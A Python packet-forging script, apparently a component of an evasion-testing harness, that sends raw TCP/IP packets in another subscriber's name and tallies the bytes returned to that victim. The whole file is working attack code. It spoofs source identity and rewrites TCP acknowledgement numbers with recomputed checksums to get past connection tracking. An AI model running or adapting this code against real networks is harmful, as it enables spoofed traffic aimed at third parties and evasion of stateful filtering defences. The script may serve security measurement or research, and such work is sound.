"""Sends packets in another subscriber's name, and counts what that one gets.   python forger.py < job;  in the child.

Standard input: {"interface", "gateway_mac", "victim", "frames": [[is_v6, packet in hex], …]}; a packet whose
acknowledgement number is 0 and that has octets acknowledges a guess: far from what the server has sent.
Standard output: {"sent": octets, "received": octets}, without the SYN/ACKs that the server itself has sent.
"""

import ipaddress
import json
import struct
import sys
import time
from typing import Any

from support.evasion.frames import checksum, octets_of
from support.evasion.player import Wire
from support.packets.builders import ACK, SYN

TCP = 6
QUIET_S = 1.0
SYN_S = 0.5
FAR = 200_000  # from the server's number; connection tracking takes an acknowledgement within 66,000
ACK_AT, FLAGS_AT, SUM_AT = 8, 13, 16  # in a TCP header


def header_octets(packet: bytes) -> int:
    return 40 if packet[0] >> 4 == 6 else (packet[0] & 15) * 4


def is_tcp(packet: bytes) -> bool:
    return packet[6 if packet[0] >> 4 == 6 else 9] == TCP


def target_of(packet: bytes) -> str:
    is_v6 = packet[0] >> 4 == 6
    return str(ipaddress.ip_address(packet[24:40] if is_v6 else packet[16:20]))


def is_syn_ack(packet: bytes) -> bool:
    return is_tcp(packet) and packet[header_octets(packet) + FLAGS_AT] & (SYN | ACK) == SYN | ACK


def acknowledging(packet: bytes, ack: int) -> bytes:
    """The TCP packet with another acknowledgement number."""
    at = header_octets(packet)
    head, tail = packet[: at + ACK_AT], packet[at + ACK_AT + 4 :]
    changed = head + struct.pack("!I", ack & 0xFFFFFFFF) + tail
    is_v6 = packet[0] >> 4 == 6
    segment = changed[at : at + SUM_AT] + b"\0\0" + changed[at + SUM_AT + 2 :]
    pseudo = changed[8:40] if is_v6 else changed[12:20]
    value = checksum(pseudo + struct.pack("!IHBB", len(segment), 0, 0, TCP) + segment)
    return changed[: at + SUM_AT] + struct.pack("!H", value) + changed[at + SUM_AT + 2 :]


def main(job: dict[str, Any]) -> dict[str, int]:
    wire = Wire(job["interface"], job["gateway_mac"])
    sent, server_isn = 0, 0
    received: list[bytes] = []
    for number, (is_v6, text) in enumerate(job["frames"]):
        packet = bytes.fromhex(text)
        at = header_octets(packet)
        if is_tcp(packet) and not packet[at + FLAGS_AT] & SYN and packet[at + ACK_AT : at + ACK_AT + 4] == bytes(4):
            packet = acknowledging(packet, server_isn + FAR * (number + 1) * (-1) ** number)
        wire.send([packet], is_v6)
        sent += octets_of(packet)
        is_syn = is_tcp(packet) and packet[at + FLAGS_AT] & SYN
        until_s = time.monotonic() + (SYN_S if is_syn else 0.02)
        while time.monotonic() < until_s:
            for each in wire.receive(0.01):
                if target_of(each) == job["victim"]:
                    received.append(each)
                    if is_syn_ack(each):
                        (server_isn,) = struct.unpack_from("!I", each, header_octets(each) + 4)
    until_s = time.monotonic() + QUIET_S
    while time.monotonic() < until_s:
        received += [each for each in wire.receive(0.05) if target_of(each) == job["victim"]]
    return {"sent": sent, "received": sum(octets_of(each) for each in received if not is_syn_ack(each))}


if __name__ == "__main__":
    print(json.dumps(main(json.load(sys.stdin))))
